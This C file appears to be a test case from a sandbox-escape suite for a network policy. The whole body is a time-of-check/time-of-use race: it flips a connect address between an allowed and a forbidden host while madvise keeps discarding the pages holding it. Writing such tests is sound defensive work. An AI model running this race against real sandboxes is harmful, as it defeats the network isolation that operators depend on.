// escape: the address lies across two pages that are thrown away all the time, and read again
// group: argument races
// policy: network
// attempts: 10000
#include "escape.h"

static char* pages;

static void* throw_away(void* unused) {
  for (;;) madvise(pages, 8192, MADV_DONTNEED);
  return unused;
}

static void attack(void) {
  static struct sockaddr_in first, second;
  first = the_friend();
  second = stranger();
  const int file = open("/tmp/address", O_RDWR | O_CREAT, 0600);
  if (file < 0 || ftruncate(file, 8192) < 0) broken("file");
  pages = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
  if (pages == MAP_FAILED) broken("mmap");
  // The host's four bytes begin the second page.
  struct sockaddr_in* address = (struct sockaddr_in*)(pages + 4096 - offsetof(struct sockaddr_in, sin_addr));
  memcpy(address, &first, sizeof first);
  static struct flip flip = {NULL, &first.sin_addr, &second.sin_addr, 4};
  flip.place = &address->sin_addr;
  thread(flip_for_ever, &flip);
  thread(throw_away, NULL);
  while (more()) {
    const int fd = tcp(AF_INET);
    connect(fd, (struct sockaddr*)address, sizeof first);
    close(fd);
  }
}
